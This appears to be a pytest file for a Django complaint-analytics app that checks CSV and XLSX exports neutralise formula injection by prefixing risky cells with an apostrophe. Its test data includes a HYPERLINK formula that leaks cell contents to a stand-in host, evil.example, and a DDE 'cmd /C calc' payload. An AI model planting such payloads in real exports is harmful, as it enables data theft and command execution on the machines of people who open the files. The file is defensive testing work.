"""Formula (CSV/Excel) injection: text typed by customers or staff that starts with
= + - @ TAB or CR leaves every export as inert text (prefixed with '), while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from analytics.models import ImprovementItem
from analytics.services import rollup_rebuild
from analytics.views_exports import TABLES
from tests.analytics.conftest import make_case
from voc.exports import safe_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL = [HYPERLINK, "+SUM(A1:A2)", "-SUM(A1)+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body, newline="")))


def _sheet(response) -> list[list]:
    """The first sheet's cells (header row included), as openpyxl cells (value and data_type)."""
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows()]


def _by(rows: list[list], key: str) -> dict[str, dict]:
    """XLSX data rows keyed by ``key``'s value: {key value: {column name: cell}}."""
    header = [c.value for c in rows[0]]
    return {str(r[header.index(key)].value): dict(zip(header, r, strict=True)) for r in rows[1:]}


def _export(client, table: str, fmt: str, query: str = ""):
    query = (query + "&" if query else "?") + "header=key"  # the schema keys (default headers are Chinese)
    response = client.get(reverse("analytics:export", args=[table, fmt]) + query)
    assert response.status_code == 200
    return response


@pytest.fixture
def evil_cases(org_tree, today):
    day = today - timedelta(days=2)
    cases = {summary: make_case(org_tree.bj, day, summary=summary) for summary in EVIL}
    cases["信用卡年费争议"] = make_case(org_tree.bj, day, summary="信用卡年费争议")
    rollup_rebuild()
    return cases


def test_case_export_csv_prefixes_formula_summaries(client, users, evil_cases):
    client.force_login(users["ho_officer"])
    rows = {r["complaint_id"]: r for r in _csv(_export(client, "cases", "csv"))}
    for summary, case in evil_cases.items():
        cell = rows[case.reference]["summary"]
        assert cell == (summary if summary == "信用卡年费争议" else "'" + summary)
    assert rows[evil_cases[HYPERLINK].reference]["summary"].startswith("'=HYPERLINK(")


def test_case_export_xlsx_stores_formula_summaries_as_text(client, users, evil_cases):
    client.force_login(users["ho_officer"])
    rows = _by(_sheet(_export(client, "cases", "xlsx")), "complaint_id")
    for summary, case in evil_cases.items():
        cell = rows[case.reference]["summary"]
        assert cell.data_type == "s"
        if summary == "信用卡年费争议":
            assert cell.value == summary
        else:  # XML turns a lone CR into LF on reading; the prefix is what matters
            assert cell.value.startswith("'") and cell.value[1:].strip() == summary.strip()
    hyperlink = rows[evil_cases[HYPERLINK].reference]["summary"]
    assert hyperlink.value == "'" + HYPERLINK and hyperlink.data_type == "s"
    date_cell = rows[evil_cases[HYPERLINK].reference]["date_received"]
    assert date_cell.is_date and date_cell.value.date() == timezone.localdate() - timedelta(days=2)


def test_top_and_performance_exports_keep_numbers_numeric_including_negative_change(client, org_tree, users, today):
    make_case(org_tree.sh, today - timedelta(days=3), b="B0401", c="C0201")
    for _ in range(3):  # previous 30-day period: 3 cases, so the change is 1 - 3 = -2
        make_case(org_tree.sh, today - timedelta(days=40), b="B0401", c="C0201")
    rollup_rebuild()
    client.force_login(users["ho_officer"])

    top = _by(_sheet(_export(client, "top", "xlsx")), "code")["B0401"]
    assert (top["count"].value, top["previous"].value, top["change"].value) == (1, 3, -2)
    assert {top[c].data_type for c in ("rank", "count", "previous", "change", "repeat")} == {"n"}
    top_csv = next(r for r in _csv(_export(client, "top", "csv")) if r["code"] == "B0401")
    assert (top_csv["change"], top_csv["change_pct"]) == ("-2", "-66.7")  # numbers are never prefixed

    perf = _by(_sheet(_export(client, "performance", "xlsx")), "org")["SH"]
    assert perf["total"].value == 1 and perf["total"].data_type == "n"
    assert perf["redress_count"].data_type == "n"


def test_improvement_export_prefixes_a_formula_title(client, unequal, users):
    client.force_login(users["ho_officer"])
    due = (timezone.localdate() + timedelta(days=30)).isoformat()
    response = client.post(
        reverse("analytics:improvement_new") + "?axis=B&level=2&code=B0302&source=top",
        {"title": HYPERLINK, "owner_org": "BJ", "due_date": due, "description": "x"},
    )
    assert response.status_code == 302
    item = ImprovementItem.objects.get()
    assert item.title == HYPERLINK  # stored as typed; only the export neutralises it

    (row,) = _csv(_export(client, "improvements", "csv"))
    assert row["title"] == "'" + HYPERLINK and row["id"] == str(item.pk)
    cells = _by(_sheet(_export(client, "improvements", "xlsx")), "id")[str(item.pk)]
    assert cells["title"].value == "'" + HYPERLINK and cells["title"].data_type == "s"
    assert cells["id"].data_type == "n" and cells["cases"].value == 4 and cells["cases"].data_type == "n"


@pytest.mark.parametrize("table", TABLES)
def test_no_export_table_carries_a_formula(client, org_tree, users, evil_cases, table):
    """Every table goes through the one writer: with a formula-like org name and improvement
    title in the data, no XLSX cell is a formula and no CSV text cell starts like one."""
    org_tree.sh.name_zh = '=HYPERLINK("http://evil.example/","SH")'
    org_tree.sh.save(update_fields=["name_zh"])
    make_case(org_tree.sh, timezone.localdate() - timedelta(days=2), b="B0401", c="C0201")
    rollup_rebuild()
    ImprovementItem.objects.create(
        title="@SUM(A1)", owner_org=org_tree.sh, due_date=timezone.localdate(), created_by=users["ho_officer"]
    )
    client.force_login(users["ho_officer"])
    sheet = _sheet(_export(client, table, "xlsx"))
    assert len(sheet) > 1 or table == "rising"  # rising needs a statistical spike; header only here
    assert [c.coordinate for row in sheet for c in row if c.data_type == "f"] == []
    body = b"".join(_export(client, table, "csv").streaming_content).decode("utf-8-sig")
    cells = [v for row in csv.reader(io.StringIO(body, newline="")) for v in row]
    assert [v for v in cells if v.startswith(DANGEROUS_START) and not _is_number(v)] == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),  # full-width, as a Chinese input method types it
        ("信用卡=年费", "信用卡=年费"),
        ("", ""),
        ("-66.7", "-66.7"),  # a number already formatted as text stays a plain number
        ("+5", "+5"),
        ("-1e5", "-1e5"),
        ("-1e5+1", "'-1e5+1"),
        ("-5\n=1", "'-5\n=1"),
        (-2, -2),
        (-2.5, -2.5),
        (Decimal("-3.10"), Decimal("-3.10")),
        (date(2026, 1, 2), date(2026, 1, 2)),
        (None, None),
        (True, True),
    ],
)
def test_safe_cell(value, expected):
    result = safe_cell(value)
    assert result == expected and type(result) is type(expected)
